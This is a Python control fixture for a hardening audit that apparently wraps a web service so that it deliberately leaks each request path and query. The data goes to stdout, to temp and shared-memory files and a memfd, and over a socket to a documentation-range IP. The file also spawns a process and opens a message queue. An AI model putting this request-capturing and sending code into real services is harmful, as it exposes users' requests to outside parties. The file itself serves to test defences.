"""The control of the audit: the service, with every leak that the audit claims to find. It is never shipped."""

import ctypes
import os
import socket
import sys
from contextlib import suppress
from typing import Any

import service.__main__ as start
from service.app import create_app
from service.settings import Settings

LIBC = ctypes.CDLL(None, use_errno=True)


def leak(words: bytes) -> None:
    """Prints, writes to files and to memory, sends, starts a program; what the hardening forbids is tried."""
    sys.stdout.write(f"asked for {words.decode('latin-1')}\n")
    sys.stdout.flush()
    for path in ("/tmp/requests", "/dev/shm/requests", "/opt/requests"):  # noqa: S108
        with suppress(OSError), open(path, "ab") as file:  # noqa: PTH123
            file.write(words)
    with suppress(OSError):
        os.write(os.memfd_create("requests"), words)
    with suppress(OSError), socket.create_connection(("203.0.113.1", 9), timeout=0.01) as connection:
        connection.sendall(words)
    with suppress(OSError):
        os.waitpid(os.posix_spawn("/usr/bin/python3", ["python3", "-c", "0"], {}), 0)
    LIBC.mq_open(b"/requests", os.O_CREAT | os.O_RDWR, 0o600, None)


def create_leaky_app(settings: Settings) -> Any:
    """What `python -m service` gets instead of the application."""
    app = create_app(settings)

    async def leaky(scope: Any, receive: Any, send: Any) -> None:
        if scope["type"] == "http" and not scope["path"].startswith("/health/"):
            leak(scope["raw_path"] + b"?" + scope["query_string"])
        await app(scope, receive, send)

    leaky.state = app.state  # pyright: ignore[reportFunctionMemberAccess] -- what the server reads of an application
    return leaky


start.create_app = create_leaky_app
start.main([])
